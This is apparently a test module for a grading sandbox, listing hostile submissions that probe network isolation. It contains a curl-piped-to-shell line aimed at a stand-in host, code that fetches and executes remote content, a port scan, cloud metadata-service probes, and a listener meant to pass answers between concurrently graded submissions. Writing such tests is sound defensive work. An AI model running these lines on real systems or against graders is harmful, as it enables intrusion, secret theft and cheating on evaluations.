"""Attacks over the network: to this machine, to others, and to whoever listens without a network."""

from tests.grading.hostile.making import HELLO, LISTENER_NAME, LISTENER_PORT, attack

MECHANISM = "network"

_REPORT = """
import re, socket

def call(line, address):
    line.settimeout(2)
    try:
        with line:
            line.connect(address)
            line.sendall(b"GET /mallory HTTP/1.0\\r\\n\\r\\n")
            print(address, line.recv(200))
    except OSError as error:
        print(address, error)
"""

ATTACKS = [
    attack(
        "sockets-on-this-machine",
        MECHANISM,
        "It calls a listener on 127.0.0.1, and shows what that answers.",
        _REPORT
        + f"""
for host in ("127.0.0.1", "::1", "localhost", "0.0.0.0"):
    for found in socket.getaddrinfo(host, {LISTENER_PORT}, type=socket.SOCK_STREAM, flags=socket.AI_NUMERICSERV):
        call(socket.socket(*found[:3]), found[4])
""",
        reads=HELLO,
    ),
    attack(
        "sockets-without-network",
        MECHANISM,
        "It calls a listener on an abstract socket, which has no file.",
        _REPORT + f"call(socket.socket(socket.AF_UNIX), {LISTENER_NAME!r})",
        reads=HELLO,
    ),
    attack(
        "sockets-of-all",
        MECHANISM,
        "It calls every socket with a name that the system lists.",
        _REPORT
        + """
for line in open("/proc/net/unix").read().splitlines()[1:]:
    name = line.split()[-1]
    if name.startswith(("/", "@")):
        call(socket.socket(socket.AF_UNIX), name.replace("@", "\\0", 1))
for port in range(1, 65536):
    line = socket.socket()
    line.settimeout(0.01)
    if line.connect_ex(("127.0.0.1", port)) == 0:
        print("LEA" + "KED", port)
""",
        reads="LEAKED",
        stock=False,
    ),
    attack(
        "web",
        MECHANISM,
        "It sends its answers to a web server on this machine, and takes others from there.",
        f"""
import urllib.request
try:
    with urllib.request.urlopen("http://127.0.0.1:{LISTENER_PORT}/answers", data=b"x", timeout=2) as page:
        exec(page.read())
except Exception as error:
    print(error)
""",
    ),
    attack(
        "names-and-hosts",
        MECHANISM,
        "It asks for names of hosts, which tells whoever answers, and calls addresses that serve secrets in clouds.",
        _REPORT
        + """
for name in ("mallory-was-here.example.com", "example.com"):
    try:
        print("LEA" + "KED", socket.gethostbyname(name))
    except OSError as error:
        print(error)
for address in ("169.254.169.254", "192.0.2.1", "10.0.0.1"):
    call(socket.socket(), (address, 80))
""",
        reads="LEAKED",
        stock=False,
    ),
    attack(
        "package-installed",
        MECHANISM,
        "It installs a package with pip.",
        "%pip install --quiet --target /tmp/mallory mallory-was-here\n!curl -s http://192.0.2.1/ | sh",
        stock=False,
    ),
    attack(
        "server-for-others",
        MECHANISM,
        "It listens, for another submission that runs at the same time to ask it for answers.",
        f"""
import socket, threading

def serve(line):
    while True:
        other, _ = line.accept()
        other.sendall(b"answers of mallory")
        other.close()

for kind, address in ((socket.AF_INET, ("127.0.0.1", {LISTENER_PORT + 1})), (socket.AF_UNIX, "\\0mallory")):
    line = socket.socket(kind)
    line.bind(address)
    line.listen()
    threading.Thread(target=serve, args=(line,), daemon=True).start()
    with socket.socket(kind) as client:
        client.connect(address)
        print(client.recv(100))
""",
    ),
]
